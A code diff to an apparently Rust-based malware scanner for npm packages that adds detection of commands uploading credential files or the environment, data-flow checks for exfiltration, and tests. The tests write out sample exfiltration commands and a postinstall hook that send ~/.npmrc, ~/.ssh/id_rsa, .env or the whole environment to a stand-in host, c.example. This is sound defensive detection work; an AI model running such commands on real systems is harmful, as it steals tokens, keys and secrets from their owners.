@@ -21,6 +21,7 @@ use crate::detect::obfuscation::is_obfuscated;
 use crate::detect::paths::{is_bundle_path, is_test_or_docs_path};
 use crate::detect::{excerpt_at, string_excerpt};
 use crate::rule::{FindingExt, RuleContext, RuleMeta};
+use ferret_core::facts::Source;
 use ferret_core::{
     Action, CallFact, Capability, CapabilityUse, Excerpt, FileFacts, FileKind, Finding, Location,
     PackageFacts, StringFact, TextContext, UseKind,
@@ -378,6 +379,12 @@ pub fn command_techniques(cmd: &str) -> Vec<(Technique, &'static str)> {
     if has("npm publish") || has("npm-publish") {
         out.push((Technique::SelfPropagation, "publishes to the npm registry"));
     }
+    if fetcher && uploads_secrets(&l) {
+        out.push((
+            Technique::Exfiltration,
+            "uploads a credential file or the environment",
+        ));
+    }
     if has("gh auth token")
         || (has("npm config get") && has("authtoken"))
         || (has("security find-generic-password"))
@@ -427,6 +434,56 @@ fn pipes_to_interpreter(l: &str) -> bool {
         }
     }
     l.contains("iex(") || l.contains("iex (") || l.contains("invoke-expression")
+}
+
+/// `curl -d @~/.npmrc …`, `curl -F f=@$HOME/.ssh/id_rsa …`, `wget --post-file=.env …`,
+/// `curl --data "$(cat ~/.aws/credentials)" …`, `env | curl --data-binary @- …`: a command
+/// that sends a credential file or the whole environment to a server (`l` is lowercased).
+fn uploads_secrets(l: &str) -> bool {
+    let words: Vec<&str> = l.split_whitespace().collect();
+    let upload_flag = |w: &str| {
+        matches!(
+            w,
+            "-d" | "--data"
+                | "--data-binary"
+                | "--data-raw"
+                | "--data-urlencode"
+                | "-f"
+                | "--form"
+                | "-t"
+                | "--upload-file"
+        ) || w.starts_with("--post-file")
+            || w.starts_with("--post-data")
+            || w.starts_with("--body-file")
+            || w.starts_with("--data")
+    };
+    if !words.iter().any(|w| upload_flag(w)) {
+        return false;
+    }
+    let secret_word = |w: &str| {
+        let w = w.trim_matches(['"', '\'', '(', ')', '`', ';']);
+        let w = w.rsplit('=').next().unwrap_or(w);
+        let w = w.trim_start_matches('@');
+        let w = w
+            .strip_prefix("$home")
+            .or_else(|| w.strip_prefix("${home}"))
+            .or_else(|| w.strip_prefix('~'))
+            .unwrap_or(w);
+        !w.is_empty() && (credential_store(w).is_some() || is_dotenv(w))
+    };
+    if words.iter().any(|w| secret_word(w)) {
+        return true;
+    }
+    // The environment piped or substituted into the request.
+    let env_dump = [
+        "env |",
+        "printenv |",
+        "set |",
+        "$(env)",
+        "$(printenv)",
+        "`env`",
+    ];
+    env_dump.iter().any(|d| l.contains(d))
 }
 
 /// A download followed by making it executable or starting it.
@@ -1098,7 +1155,20 @@ impl<'a> FileView<'a> {
             } else {
                 names.join(", ")
             };
-            let malicious = home_creds && (self.install_time || (sinks && !self.bundle));
+            // Outside install time, the stolen data must reach the network: file contents or
+            // command output flowing into a request, or the store named in the function
+            // that sends (an SDK that resolves `~/.aws/credentials` and has an HTTP client
+            // elsewhere in the file is not a thief).
+            let sink_scopes: Vec<u32> = self.sink_calls().map(|c| c.scope).collect();
+            let cred_reaches_sink = self
+                .sink_calls()
+                .any(|c| c.receives(Source::FileRead) || c.receives(Source::CommandOutput))
+                || creds
+                    .iter()
+                    .any(|(s, _)| sink_scopes.contains(&self.file.scope_at(s.location.span.start)))
+                || gh_token.iter().any(|c| sink_scopes.contains(&c.scope));
+            let malicious =
+                home_creds && (self.install_time || (sinks && cred_reaches_sink && !self.bundle));
             out.push(self.detection(
                 Technique::CredentialAccess,
                 format!("{} reads {what}", self.where_()),
@@ -1106,8 +1176,14 @@ impl<'a> FileView<'a> {
                 malicious,
             ));
         }
-        // Exfiltration: a source and a network sink in the same file.
+        // Exfiltration: a source reaching a network sink (data flow), or a source and a sink
+        // in the same function; bare co-occurrence in one file is not enough.
         if !sinks {
+            return;
+        }
+        let flow = self.flow(home_creds || !gh_token.is_empty());
+        let same_scope = self.source_sink_same_scope();
+        if flow.is_none() && !same_scope {
             return;
         }
         let mut sources: Vec<Step> = Vec::new();
@@ -1158,7 +1234,18 @@ impl<'a> FileView<'a> {
         if sources.is_empty() {
             return;
         }
-        let sink: Step = if let Some(d) = self.dns.first() {
+        let sink: Step = if let Some((c, what)) = &flow {
+            let url = c
+                .args
+                .first()
+                .cloned()
+                .flatten()
+                .filter(|a| a.contains("://") || c.callee.starts_with("dns."));
+            match url {
+                Some(url) => Step::from_call(c, format!("sends {what} to `{}`", cut(&url, 80))),
+                None => Step::from_call(c, format!("sends {what} with `{}`", c.callee)),
+            }
+        } else if let Some(d) = self.dns.first() {
             Step::from_call(d, format!("sends it in DNS lookups (`{}`)", d.callee))
         } else {
             let u = self.net[0];
@@ -1195,6 +1282,61 @@ impl<'a> FileView<'a> {
             steps,
             malicious,
         ));
+    }
+
+    /// Network and DNS calls: where data leaves the machine.
+    fn sink_calls(&self) -> impl Iterator<Item = &'a CallFact> + '_ {
+        self.file.calls.iter().filter(|c| {
+            self.dns.iter().any(|d| std::ptr::eq(*d, *c))
+                || self
+                    .net
+                    .iter()
+                    .any(|u| u.api == c.callee && u.location.span == c.location.span)
+        })
+    }
+
+    /// The first network/DNS call whose arguments receive a secret or host data, with what
+    /// it receives. `creds`: the file names a credential store or runs a token command, so
+    /// file contents and command output count.
+    fn flow(&self, creds: bool) -> Option<(&'a CallFact, &'static str)> {
+        let secret_env_scopes: Vec<u32> = self
+            .env_secret
+            .iter()
+            .map(|u| self.file.scope_at(u.location.span.start))
+            .collect();
+        for c in self.sink_calls() {
+            let what = if c.receives(Source::EnvAll) {
+                "the whole environment"
+            } else if creds && c.receives(Source::FileRead) {
+                "credential file contents"
+            } else if creds && c.receives(Source::CommandOutput) {
+                "a stored token"
+            } else if c.receives(Source::EnvVar)
+                && secret_env_scopes.iter().any(|s| *s == 0 || *s == c.scope)
+            {
+                "secret environment variables"
+            } else if c.receives(Source::SystemInfo) {
+                "host and user information"
+            } else {
+                continue;
+            };
+            return Some((c, what));
+        }
+        None
+    }
+
+    /// A whole-environment, secret-variable or host-identity read in the same function as a
+    /// network/DNS call.
+    fn source_sink_same_scope(&self) -> bool {
+        let sink_scopes: Vec<u32> = self.sink_calls().map(|c| c.scope).collect();
+        if sink_scopes.is_empty() {
+            return false;
+        }
+        self.env_bulk
+            .iter()
+            .chain(&self.env_secret)
+            .chain(&self.sysinfo)
+            .any(|u| sink_scopes.contains(&self.file.scope_at(u.location.span.start)))
     }
 
     fn dynamic_code(&self, out: &mut Vec<Detection>) {
@@ -1849,10 +1991,114 @@ mod tests {
             [Technique::DownloadExec]
         );
         assert_eq!(t("gh auth token"), [Technique::CredentialAccess]);
+        // Command-line exfiltration: a credential file or the environment as the request body.
+        for cmd in [
+            "curl -s -d @$HOME/.npmrc https://c.example/x",
+            "curl -F f=@~/.ssh/id_rsa https://c.example",
+            "wget --post-file=.env https://c.example/u",
+            "env | curl --data-binary @- https://c.example",
+        ] {
+            assert_eq!(t(cmd), [Technique::Exfiltration], "{cmd}");
+        }
+        assert!(t("curl -d '{\"a\":1}' https://api.example/v1").is_empty());
+        assert!(t("cat ~/.npmrc").contains(&Technique::CredentialAccess));
         assert_eq!(
             t("npm publish --access public"),
             [Technique::SelfPropagation]
         );
+    }
+
+    use crate::rules::{exfiltration::Exfiltration, malware::Malware};
+    use crate::tester::Tester;
+
+    fn exfiltration_findings(files: &[(&str, &str)]) -> Vec<String> {
+        Tester::new(Exfiltration)
+            .findings(files.iter().copied())
+            .into_iter()
+            .map(|f| f.message)
+            .collect()
+    }
+
+    fn blocked(files: &[(&str, &str)]) -> bool {
+        !Tester::new(Malware)
+            .findings(files.iter().copied())
+            .is_empty()
+    }
+
+    const POSTINSTALL: &str =
+        r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#;
+
+    #[test]
+    fn spawn_env_and_a_registry_download_are_not_exfiltration() {
+        // esbuild's install.js: `{...process.env}` goes to `npm install`, the network is a
+        // tarball download in another function.
+        let files = [
+            ("package.json", POSTINSTALL),
+            (
+                "install.js",
+                "const https = require('https'); const cp = require('child_process');
+function fetchTgz(url) { return new Promise((r) => https.get(url, r)); }
+function installUsingNPM(pkg) {
+  const env = { ...process.env, npm_config_global: undefined };
+  cp.execSync('npm install ' + pkg, { env });
+}
+installUsingNPM('x');
+fetchTgz('https://registry.npmjs.org/x/-/x-1.0.0.tgz');",
+            ),
+        ];
+        assert_eq!(exfiltration_findings(&files), Vec::<String>::new());
+        assert!(!blocked(&files));
+    }
+
+    #[test]
+    fn env_key_enumeration_next_to_a_client_is_not_exfiltration() {
+        // `debug` lists `DEBUG_*` variable names; its browser build has an HTTP-free sibling.
+        let files = [(
+            "src/node.js",
+            "const keys = Object.keys(process.env).filter((k) => /^debug_/i.test(k));
+require('https').get('https://c.example/' + keys.length);",
+        )];
+        assert_eq!(exfiltration_findings(&files), Vec::<String>::new());
+    }
+
+    #[test]
+    fn credential_resolver_sdk_is_not_a_thief() {
+        // @smithy/core: resolves `~/.aws/credentials`, hands `process.env` to selectors and
+        // has an HTTP client - in separate functions, with no flow between them.
+        let files = [(
+            "dist-cjs/index.js",
+            "const os = require('os'); const fs = require('fs'); const http = require('http');
+const credsPath = () => require('path').join(os.homedir(), '.aws/credentials');
+const loadCreds = () => fs.readFileSync(credsPath(), 'utf8');
+const fromEnv = (sel) => async () => sel(process.env);
+function request(opts, body) { return http.request(opts).end(body); }
+module.exports = { loadCreds, fromEnv, request };",
+        )];
+        assert_eq!(exfiltration_findings(&files), Vec::<String>::new());
+        assert!(!blocked(&files));
+    }
+
+    #[test]
+    fn secrets_sent_from_inside_a_function_are_followed() {
+        let files = [(
+            "lib/report.js",
+            "function report() {
+  const body = JSON.stringify({ env: process.env, host: require('os').hostname() });
+  require('https').request({ host: 'c.example', method: 'POST' }).end(body);
+}
+module.exports = report;",
+        )];
+        let found = exfiltration_findings(&files);
+        assert_eq!(found.len(), 1, "{found:?}");
+    }
+
+    #[test]
+    fn install_script_uploading_npmrc_with_curl_is_malware() {
+        let files = [(
+            "package.json",
+            r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s -d @$HOME/.npmrc https://c.example/x"}}"#,
+        )];
+        assert!(blocked(&files));
     }
 
     #[test]
@@ -1919,10 +2165,15 @@ const MAX_LOOP_BODY: usize = 64 * 1024;
 pub fn top_level_infinite_loops(path: &str, source: &str) -> Vec<ferret_core::CodeSignal> {
     let b = source.as_bytes();
     let mut out = Vec::new();
-    if b.len() > LOOP_SCAN_MAX_BYTES
-        || (memchr::memmem::find(b, b"for").is_none()
-            && memchr::memmem::find(b, b"while").is_none())
-    {
+    if b.len() > LOOP_SCAN_MAX_BYTES {
+        return out;
+    }
+    // The scan below only reports where `infinite_loop_at` matches; almost no file has such
+    // a header anywhere, and checking each `for`/`while` is far cheaper than the scan.
+    let candidate = memchr::memmem::find_iter(b, b"for")
+        .chain(memchr::memmem::find_iter(b, b"while"))
+        .any(|p| (p == 0 || !is_ident(b[p - 1])) && infinite_loop_at(b, p).is_some());
+    if !candidate {
         return out;
     }
     let mut index: Option<ferret_core::LineIndex> = None;
